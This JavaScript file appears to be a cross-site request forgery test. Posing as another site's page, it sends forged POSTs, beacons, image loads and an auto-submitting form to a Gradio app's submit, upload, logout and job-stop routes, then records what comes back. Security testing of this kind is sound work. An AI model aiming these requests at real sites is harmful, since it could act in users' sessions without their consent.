// What a page of another site would try against `target`. When it is done, window.results lists what it was answered.
const body = JSON.stringify({ data: ["planted"], session_hash: "evil", fn_index: 1, event_id: "x" });
const calls = ["call/submit", "queue/join", "run/submit", "cancel", "component_server", "upload"];
const routes = [...calls.map((name) => "/gradio_api/" + name), "/logout", "/login", "/jobs/x/stop"];
const results = [];
const work = [];

function files() {
  const form = new FormData();
  form.append("files", new Blob(["planted"], { type: "image/png" }), "planted.png");
  return form;
}

async function note(route, promise) {
  try {
    const answer = await promise;
    results.push([route, answer.type, answer.status, answer.type === "opaque" ? "" : await answer.text()]);
  } catch (error) {
    results.push([route, "failed", 0, ""]);
  }
}

for (const route of routes) {
  for (const mode of ["cors", "no-cors"]) {
    for (const credentials of ["include", "omit"]) {
      const bodies = [body, new URLSearchParams({ password: "x", data: body }), files()];
      for (const sent of bodies) work.push(note(route, fetch(target + route, { method: "POST", mode, credentials, body: sent })));
      const headers = { "Content-Type": "application/json" };
      if (mode === "cors") work.push(note(route, fetch(target + route, { method: "POST", mode, credentials, body, headers })));
    }
  }
  navigator.sendBeacon(target + route, new Blob([body], { type: "text/plain" }));
}
for (const route of ["/config", "/current", "/gradio_api/info", "/", "/healthz"]) {
  for (const credentials of ["include", "omit"]) work.push(note(route, fetch(target + route, { credentials })));
}
for (const route of ["/jobs/x/stop", "/logout", "/gradio_api/startup-events", "/gradio_api/queue/data?session_hash=evil"]) {
  const image = new Image();
  image.src = target + route;
  document.body.append(image);
}
const classic = document.createElement("form");
Object.assign(classic, { method: "POST", enctype: "multipart/form-data", target: "frame", action: target + "/gradio_api/upload" });
classic.innerHTML = "<input name=files value=planted>";
document.body.append(classic);
classic.submit();
Promise.all(work).then(() => setTimeout(() => (window.results = results), 300));
